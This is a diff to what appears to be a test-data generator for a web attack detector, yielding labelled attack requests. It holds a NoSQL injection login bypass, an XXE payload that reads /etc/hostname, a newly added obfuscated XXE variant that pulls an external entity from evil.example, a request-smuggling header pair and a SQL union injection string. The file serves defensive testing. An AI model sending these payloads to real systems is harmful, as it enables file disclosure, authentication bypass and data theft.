@@ -534,6 +534,8 @@ def attacks():
                       b'{"user": "jane", "password": {"$ne": null}}')
     yield transaction("xxe", "attack", "POST", "/import", [["Content-Type", "application/xml"]],
                       b'<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]><r>&e;</r>')
+    yield transaction("xxe_broken", "attack", "POST", "/import", [["Content-Type", "application/xml"]],
+                      b'<!DOCTYPE r\n[\n<!ENTITY\ne\nPUBLIC "x"\n"http://evil.example/x">\n]><r>&e;</r>')
     yield transaction("smuggling", "attack", "POST", "/", [["Transfer-Encoding", "chunked"], ["Content-Length", "4"]])
     # Applications read a body without asking what it is called.
     statement = "1' union all select login, hash from members -- "
